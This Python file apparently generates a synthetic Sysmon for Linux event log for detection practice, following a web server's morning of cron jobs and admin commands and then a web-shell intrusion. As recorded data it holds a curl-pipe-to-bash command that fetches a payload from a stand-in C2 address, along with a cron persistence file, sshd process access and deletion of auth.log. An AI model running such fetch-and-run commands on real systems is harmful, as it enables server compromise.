"""The web server web01 under Sysmon for Linux: scheduled work, an administrator, and a web shell."""

from __future__ import annotations

from story.recorder import Host, Process, clock, utc
from story.recorder import moment as moment_of

C2 = "198.51.100.77"


def record(host: Host) -> None:
    """A morning on the server."""
    init = host.process("05:00:00", "/usr/lib/systemd/systemd", "/sbin/init", "root", 1)
    host.log(4, "05:00:04", State="Started", Version="1.3.2", SchemaVersion="4.81")
    cron = host.process("05:00:10", "/usr/sbin/cron", "/usr/sbin/cron -f", "root", 611)
    for hour in (6, 7, 8, 9, 10):
        _log_rotation(host, cron, hour)
    shell = host.start(
        "07:31:02",
        "/usr/bin/bash",
        "-bash",
        host.process("07:31:01", "/usr/sbin/sshd", "sshd: admin [priv]", "root"),
        User="admin",
    )
    for number, command in enumerate(
        ["ls -la /var/www", "df -h", "systemctl status nginx", "tail -n 50 /var/log/nginx/error.log"]
    ):
        name = "/usr/bin/" + command.split()[0]
        done = host.start(clock(7 * 3600 + 32 * 60 + 20 * number), name, command, shell)
        host.log(5, clock(7 * 3600 + 32 * 60 + 20 * number + 1), done)
    _web_shell(host, host.start("05:00:12", "/usr/sbin/nginx", "nginx: worker process", init, User="www-data"))


def _log_rotation(host: Host, cron: Process, hour: int) -> None:
    job = host.start(clock(hour * 3600 + 17 * 60), "/bin/sh", "/bin/sh -c /etc/cron.hourly/rotate", cron)
    path = f"/var/log/nginx/access.log.{hour}"
    host.log(
        11,
        clock(hour * 3600 + 17 * 60 + 1),
        job,
        TargetFilename=path,
        CreationUtcTime=utc(moment_of(clock(hour * 3600 + 17 * 60 + 1))),
    )
    host.log(5, clock(hour * 3600 + 17 * 60 + 2), job)


def _web_shell(host: Host, web: Process) -> None:
    shell = host.start("09:40:00", "/bin/sh", "sh -c curl -s http://198.51.100.77/u.sh | bash", web)
    curl = host.start("09:40:00.100", "/usr/bin/curl", "curl -s http://198.51.100.77/u.sh", shell)
    host.connect("09:40:00.300", curl, C2, 80)
    bash = host.start("09:40:00.150", "/usr/bin/bash", "bash", shell)
    host.log(11, "09:40:02", bash, TargetFilename="/tmp/.cache-upd/kwork", CreationUtcTime="2026-03-04 09:40:02.000")
    worker = host.start("09:40:03", "/tmp/.cache-upd/kwork", "/tmp/.cache-upd/kwork -d", bash)
    host.connect("09:40:04", worker, C2, 443)
    host.log(11, "09:40:05", bash, TargetFilename="/etc/cron.d/upd", CreationUtcTime="2026-03-04 09:40:05.000")
    sshd = host.process("05:00:11", "/usr/sbin/sshd", "/usr/sbin/sshd -D", "root", 702)
    host.log(10, "09:40:09", worker, sshd, SourceThreadId=str(worker.pid), GrantedAccess="0x10")
    host.log(9, "09:40:12", worker, Device="/dev/sda1")
    host.log(23, "09:40:20", worker, TargetFilename="/var/log/auth.log", IsExecutable="-", Archived="false")
    host.log(16, "09:40:30", Configuration="/tmp/.cache-upd/c.xml", ConfigurationFileHash="-")
